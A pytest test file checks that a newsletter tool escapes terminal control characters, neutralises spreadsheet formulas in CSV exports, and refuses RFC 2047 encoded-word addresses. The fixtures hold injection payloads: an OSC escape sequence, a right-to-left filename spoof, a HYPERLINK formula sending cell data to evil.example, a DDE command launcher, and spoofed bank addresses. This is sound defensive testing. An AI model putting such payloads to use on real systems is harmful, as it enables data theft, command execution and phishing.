"""Subscriber data is data: it cannot drive the terminal, a spreadsheet or a mail
client.  Control characters are shown escaped by `subscribers list`; an export's
formula-like cells are neutralised (and read back as they were); a local part that
looks like an RFC 2047 encoded word is not an address anywhere one is accepted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from distrib import subscribers as subs
from distrib.cli import cli
from distrib.ledger import Ledger, open_ledger

CONFIG = """
[site]
name = "Harbour Notes"
url = "https://news.example/"
postal_address = "1 Quay Street"

[[sources]]
name = "s"
type = "sample"

[email]
mailer = "outbox"
from = "{sender}"
unsubscribe_url = "https://news.example/u?token={{token}}"
{extra}
"""


def config(tmp_path: Path, sender: str = "News <news@news.example>", extra: str = "") -> Path:
    path = tmp_path / "distrib.toml"
    path.write_text(CONFIG.format(sender=sender, extra=extra), encoding="utf-8")
    return path


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


TITLE = "\x1b]0;owned\x07"  # OSC 0: set the terminal's title, ended by BEL


def test_subscribers_list_escapes_control_characters(tmp_path: Path) -> None:
    path = config(tmp_path)
    code, _, err = run(
        "subscribers",
        "add",
        "ana@example.com",
        "--name",
        f"Ana{TITLE}\r\u202egnp.exe\tx",
        "--config",
        str(path),
    )
    assert code == 0, err
    with open_ledger(tmp_path / "distrib.sqlite") as ledger:
        subs.unsubscribe(ledger, "ana@example.com", f"550 bounce{TITLE}", "bounced")
    code, out, err = run("subscribers", "list", "--config", str(path))
    assert code == 0, err
    [line] = out.splitlines()
    assert not any(c in out for c in "\x1b\x07\r\u202e")
    assert (
        line
        == "ana@example.com\tAna\\x1b]0;owned\\x07\\x0d\\u202egnp.exe\\x09x\tbounced  (550 bounce\\x1b]0;owned\\x07)"
    )


def test_errors_and_log_lines_escape_what_they_quote(tmp_path: Path) -> None:
    path = config(tmp_path)
    code, out, err = run("subscribers", "remove", f"x{TITLE}@example.com", "--config", str(path))
    assert code == 2
    assert "\x1b" not in err and "\x07" not in err and "is not an email address" in err


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=already quoted",
    "''+twice",
    "plain 'quote",
]


def test_export_neutralises_formulas_and_import_reads_the_values_back(
    ledger: Ledger, tmp_path: Path
) -> None:
    for i, name in enumerate(FORMULAS):
        subs.add(ledger, f"reader{i}@example.com", name)
    subs.add(ledger, "=1+2@example.com", "-Minus")
    subs.add(ledger, "+tag@example.com", "@handle")
    out = tmp_path / "export.csv"
    subs.export_csv(ledger, out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    by_email = {r[0]: r[1] for r in rows[1:]}
    assert by_email["'=1+2@example.com"] == "'-Minus"
    assert by_email["reader5@example.com"] == "''=already quoted"
    assert by_email["reader7@example.com"] == "plain 'quote"
    # Read back into a new ledger: the very values, not the guarded ones.
    with open_ledger(tmp_path / "new.sqlite") as fresh:
        report = subs.import_csv(fresh, out)
        assert report.bad_count == 0 and report.added == len(FORMULAS) + 2
        got = {s.email: s.name for s in subs.list_subscribers(fresh, None)}
    want = {f"reader{i}@example.com": name.strip() for i, name in enumerate(FORMULAS)}
    want |= {"=1+2@example.com": "-Minus", "+tag@example.com": "@handle"}
    assert got == want


@pytest.mark.parametrize(
    "address",
    [
        "=?utf-8?b?YWRtaW5AYmFuay5leGFtcGxl?=@example.com",
        "=?UTF-8?Q?support=40bank.example?=@evil.example",
        "a=?x@example.com",
    ],
)
def test_an_encoded_word_local_part_is_refused_everywhere(
    address: str, tmp_path: Path, ledger: Ledger
) -> None:
    with pytest.raises(ValueError, match="encoded word"):
        subs.normalise_address(address)
    path = config(tmp_path)
    code, _, err = run("subscribers", "add", address, "--config", str(path))
    assert code == 2 and "encoded word" in err
    report = subs.import_csv(ledger, io.StringIO(f"email\n{address}\n"))
    assert report.added == 0 and "encoded word" in report.bad[0][2]
    # The config's own addresses and its recipients follow the same rule.
    bad_from = config(tmp_path, sender=f"News <{address}>")
    code, _, err = run("check", "--config", str(bad_from))
    assert code == 2 and "email.from" in err and "encoded word" in err
    bad_rcpt = config(tmp_path, extra=f'recipients = ["{address}"]')
    code, _, err = run("check", "--config", str(bad_rcpt))
    assert code == 2 and "encoded word" in err
